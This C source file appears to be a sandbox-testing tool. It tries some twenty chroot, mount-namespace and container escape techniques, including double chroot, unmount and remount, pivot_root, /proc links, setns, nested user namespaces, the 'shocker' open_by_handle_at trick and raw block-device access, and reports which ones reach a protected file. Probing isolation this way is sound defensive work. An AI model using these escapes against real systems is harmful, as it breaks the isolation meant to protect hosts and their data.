// What a hostile command tries in order to reach a file outside of its root, or to write to one that it may only read.
// usage: escape read|write PATH. It prints a line for each attempt: NAME reached, or NAME no.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;
static int flags;
static int points_count;
static char points[512][256];

static int reaches(int directory) { return openat(directory, secret + 1, flags | O_CLOEXEC) >= 0; }

static int reaches_path(const char *prefix) {
  char path[4096];
  snprintf(path, sizeof path, "%s%s", prefix, secret);
  return open(path, flags | O_CLOEXEC) >= 0;
}

static int reaches_now(void) { return reaches_path("") || reaches(AT_FDCWD); }

static void read_points(void) {
  FILE *file = fopen("/proc/self/mountinfo", "r");
  if (file == NULL) return;
  points_count = 0;
  while (points_count < 512 && fscanf(file, "%*s %*s %*s %*s %255s%*[^\n]", points[points_count]) == 1) points_count++;
  fclose(file);
}

static int dotdot(void) {
  for (int i = 0; i < 100; i++)
    if (chdir("..") < 0) return 0;
  return reaches(AT_FDCWD);
}

static int chroot_twice(void) {
  const int outside = open(".", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/jail", 0700);
  if (chroot("/tmp/jail") < 0 || fchdir(outside) < 0) return 0;
  dotdot();
  return chroot(".") == 0 && reaches_now();
}

static int unmount_all(void) {
  read_points();
  for (int round = 0; round < 3; round++)
    for (int i = points_count - 1; i >= 0; i--) umount2(points[i], MNT_DETACH);
  umount2("/", MNT_DETACH);
  return reaches_now() || (chdir("/") == 0 && dotdot());
}

static int remount_all(void) {
  read_points();
  for (int i = 0; i < points_count; i++) {
    mount(NULL, points[i], NULL, MS_REMOUNT | MS_BIND, NULL);
    mount(NULL, points[i], NULL, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, NULL);
  }
  return reaches_now();
}

static int bind_over_bind(void) {
  mkdir("/tmp/bind", 0700);
  if (mount("/", "/tmp/bind", NULL, MS_BIND | MS_REC, NULL) < 0 && mount("/", "/tmp/bind", NULL, MS_BIND, NULL) < 0)
    return 0;
  mount(NULL, "/tmp/bind", NULL, MS_REMOUNT | MS_BIND, NULL);
  return reaches_path("/tmp/bind");
}

static int detached_tree(void) {
  const int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */);
  return tree >= 0 && (reaches(tree) || (fchdir(tree) == 0 && dotdot()));
}

static int pivot_again(void) {
  return syscall(SYS_pivot_root, ".", ".") == 0 && umount2(".", MNT_DETACH) == 0 && reaches_now();
}

// Calls a function for each entry of /proc that is a number, and for self.
static int for_each_process(int (*attempt)(const char *directory)) {
  DIR *proc = opendir("/proc");
  if (proc == NULL) return 0;
  for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
    if (strspn(entry->d_name, "0123456789") != strlen(entry->d_name)) continue;
    char directory[300];
    snprintf(directory, sizeof directory, "/proc/%s", entry->d_name);
    if (attempt(directory)) return 1;
  }
  return attempt("/proc/self") || attempt("/proc/thread-self");
}

static int through_links(const char *directory) {
  static const char *const links[] = {"root", "cwd", "exe", "root/..", "cwd/.."};
  char prefix[512];
  for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
    snprintf(prefix, sizeof prefix, "%s/%s", directory, links[i]);
    if (reaches_path(prefix)) return 1;
    if (chdir(prefix) == 0 && dotdot()) return 1;
  }
  return 0;
}

static int through_descriptors(const char *directory) {
  char prefix[512];
  for (int fd = 0; fd < 64; fd++) {
    snprintf(prefix, sizeof prefix, "%s/fd/%d", directory, fd);
    if (reaches_path(prefix) || (chdir(prefix) == 0 && (reaches(AT_FDCWD) || dotdot()))) return 1;
  }
  return 0;
}

static int enter_namespaces(const char *directory) {
  static const char *const types[] = {"user", "mnt"};
  char path[512];
  for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
    snprintf(path, sizeof path, "%s/ns/%s", directory, types[i]);
    const int fd = open(path, O_RDONLY);
    if (fd >= 0 && setns(fd, 0) == 0 && reaches_now()) return 1;
  }
  return 0;
}

static int links(void) { return for_each_process(through_links); }
static int descriptors(void) { return for_each_process(through_descriptors); }
static int setns_all(void) { return for_each_process(enter_namespaces); }

// The descriptors that this process was executed with.
static int inherited(void) {
  for (int fd = 3; fd < 1024; fd++)
    if (reaches(fd) || (fchdir(fd) == 0 && dotdot())) return 1;
  return 0;
}

static void write_file(const char *path, const char *text) {
  const int fd = open(path, O_WRONLY);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) < 0) perror(path);
  close(fd);
}

// Becomes root of a nested user namespace.
static int nest(void) {
  char uid_map[64], gid_map[64];
  snprintf(uid_map, sizeof uid_map, "0 %u 1", geteuid());
  snprintf(gid_map, sizeof gid_map, "0 %u 1", getegid());
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) return 0;
  write_file("/proc/self/setgroups", "deny");
  write_file("/proc/self/uid_map", uid_map);
  write_file("/proc/self/gid_map", gid_map);
  return 1;
}

static int nested_unmount(void) { return nest() && unmount_all(); }
static int nested_remount(void) { return nest() && remount_all(); }
static int nested_bind(void) { return nest() && bind_over_bind(); }
static int nested_chroot(void) { return nest() && chroot_twice(); }
static int nested_pivot(void) { return nest() && pivot_again(); }
static int nested_setns(void) { return nest() && setns_all(); }

// As the exploit "shocker" of Docker 0.11 did: the root of ext4 is inode 2.
static int by_handle(void) {
  struct {
    struct file_handle header;
    unsigned inode[2];
  } handle = {{8, 1}, {2, 0}};
  read_points();
  for (int i = 0; i < points_count; i++) {
    const int mount_fd = open(points[i], O_RDONLY);
    const int found = (int)syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY);
    if (found >= 0 && reaches(found)) return 1;
  }
  return 0;
}

static int device_node(void) {
  struct stat status;
  read_points();
  for (int i = 0; i < points_count; i++) {
    if (stat(points[i], &status) < 0) continue;
    unlink("/tmp/device");
    if (mknod("/tmp/device", S_IFBLK | 0600, status.st_dev) == 0 && open("/tmp/device", O_RDONLY) >= 0) return 1;
  }
  return 0;
}

static const struct {
  const char *name;
  int (*attempt)(void);
} attempts[] = {
    {"plain", reaches_now},
    {"dotdot", dotdot},
    {"chroot-twice", chroot_twice},
    {"unmount", unmount_all},
    {"remount", remount_all},
    {"bind", bind_over_bind},
    {"detached-tree", detached_tree},
    {"pivot", pivot_again},
    {"links", links},
    {"descriptors", descriptors},
    {"inherited", inherited},
    {"setns", setns_all},
    {"nested-unmount", nested_unmount},
    {"nested-remount", nested_remount},
    {"nested-bind", nested_bind},
    {"nested-chroot", nested_chroot},
    {"nested-pivot", nested_pivot},
    {"nested-setns", nested_setns},
    {"handle", by_handle},
    {"device", device_node},
};

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  flags = strcmp(argv[1], "write") == 0 ? O_WRONLY : O_RDONLY;
  secret = argv[2];
  for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) {
    fflush(stdout);
    // Each in a mount namespace of its own, if that is possible, so that it does not disturb the next one.
    const pid_t child = fork();
    if (child == 0) {
      if (strncmp(attempts[i].name, "nested", 6) != 0) unshare(CLONE_NEWNS);
      _exit(attempts[i].attempt());
    }
    int status = 0;
    waitpid(child, &status, 0);
    printf("%s %s\n", attempts[i].name, WIFEXITED(status) && WEXITSTATUS(status) == 0 ? "no" : "reached");
  }
  return 0;
}
